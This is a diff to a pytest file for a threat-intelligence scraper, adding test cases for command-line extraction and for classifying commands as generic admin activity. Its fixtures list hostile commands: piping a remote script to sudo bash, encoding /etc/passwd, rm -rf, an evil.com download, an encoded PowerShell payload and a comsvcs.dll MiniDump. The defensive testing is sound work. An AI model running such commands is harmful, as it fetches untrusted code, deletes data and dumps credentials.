@@ -2,6 +2,7 @@
 
 import pytest
 
+from ctiscraper.enrich.commands import is_general
 from ctiscraper.enrich.kinds import Kind
 from ctiscraper.enrich.observables import find_observables
 
@@ -14,6 +15,10 @@ from ctiscraper.enrich.observables import find_observables
         ("x: tasklist | findstr lsass", ["tasklist | findstr lsass"]),
         ("Get-Process | Where-Object {$_.Id}", ["Get-Process | Where-Object {$_.Id}"]),
         ('reg query HKLM\\Run | find "x | y"', ['reg query HKLM\\Run | find "x | y"']),
+        ("cat /etc/passwd | grep root", ["cat /etc/passwd | grep root"]),
+        ("run `cat /etc/passwd | base64`", ["cat /etc/passwd | base64"]),
+        ("chmod +x /tmp/a && /tmp/a -d", ["chmod +x /tmp/a && /tmp/a -d"]),
+        ("rm -rf /tmp/a /tmp/b > /dev/null", ["rm -rf /tmp/a /tmp/b > /dev/null"]),
         ("curl http://x.com/a.sh | sudo bash", ["curl http://x.com/a.sh | sudo bash"]),
     ],
 )
@@ -21,3 +26,24 @@ def test_a_command_ends_with_its_cell_and_not_with_its_pipe(text: str, commands:
     assert [
         one.value for one in find_observables(text) if one.kind is Kind.COMMAND_LINE
     ] == commands
+
+
+@pytest.mark.parametrize(
+    ("command", "is_told"),
+    [
+        ("nltest /domain_trusts", True),
+        ("C:\\Windows\\System32\\net.exe user x /add", True),
+        ('"C:\\Users\\a\\adfind.exe" -sc trustdmp', True),
+        ("Get-ADComputer -Filter *", True),
+        ("rundll32 C:\\ProgramData\\qx7.dll,Start", False),
+        ("rundll32 C:\\Windows\\System32\\comsvcs.dll,MiniDump", True),
+        ("ping 192.0.2.1", False),
+        ("curl https://evil.com/a", False),
+        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", False),
+        ("sh /tmp/a.sh", False),
+        ("qx7.exe --install", False),
+        ("", False),
+    ],
+)
+def test_what_administrators_type_is_general(command: str, is_told: bool) -> None:
+    assert is_general(command) is is_told
